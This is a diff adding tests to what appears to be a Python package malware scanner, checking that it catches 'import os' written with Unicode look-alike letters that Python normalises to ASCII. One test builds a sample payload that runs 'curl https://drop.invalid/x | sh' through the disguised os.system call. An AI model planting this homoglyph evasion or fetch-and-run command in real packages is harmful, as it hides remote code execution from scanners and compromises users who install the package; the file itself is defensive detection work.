@@ -4,11 +4,13 @@
 from __future__ import annotations
 
 import base64
+import unicodedata
 import zlib
 
 import pytest
 
 from scanner.code.analysis import analyse
+from scanner.code.compatible import compatible_starts, normalised
 from scanner.code.source import SourceFile
 from scanner.model.finding import PackageRef
 
@@ -79,3 +81,33 @@ def test_fernet_with_the_key_beside_it() -> None:
     start = bytes.fromhex("000102030405060708090a0b0c0d0e0f")
     with pytest.raises(ValueError, match="padding"):
         decrypt_cbc(key, start, bytes.fromhex("7649abac8119b246cee98e9b12e9197d"))
+
+
+LETTERS = str.maketrans("eso", "\u212f\u017f\uff4f")
+
+
+@pytest.mark.parametrize("waits", [False, True], ids=["at import", "in a function that nobody calls"])
+def test_letters_that_the_interpreter_reads_as_others_hide_no_name(waits: bool) -> None:
+    # Evasion: ``import oſ`` imports os (PEP 3131), and no plain search for its name finds it.
+    names = [one.translate(LETTERS) for one in ("os", "os.system")]
+    call = f"import {names[0]}\n{names[1]}('curl https://drop.invalid/x | sh')\n"
+    program = "def later():\n" + "".join(f"    {line}\n" for line in call.splitlines()) if waits else call
+    analysis = analyse(
+        [SourceFile("package/__init__.py", program.encode())], kind="wheel", package=PackageRef("example", "1.0")
+    )
+    assert [one.rule for one in analysis.findings] == ["shell-download-and-run"]
+    assert "subprocess" in {one.name for one in analysis.capabilities}
+
+
+def test_every_letter_that_is_read_as_ascii_is_known() -> None:
+    letters = [
+        one
+        for one in map(chr, (*range(0x80, 0xD800), *range(0xE000, 0x110000)))
+        if ("a" + one).isidentifier()
+        and any(read.isascii() and (read.isalnum() or read == "_") for read in unicodedata.normalize("NFKC", one))
+    ]
+    assert len(letters) > 900
+    for one in letters:
+        assert normalised(one.encode()) == unicodedata.normalize("NFKC", one).encode()
+        assert any(start in one.encode() for start in compatible_starts())
+    assert normalised("™ é … ²".encode()) == "™ é … ²".encode()
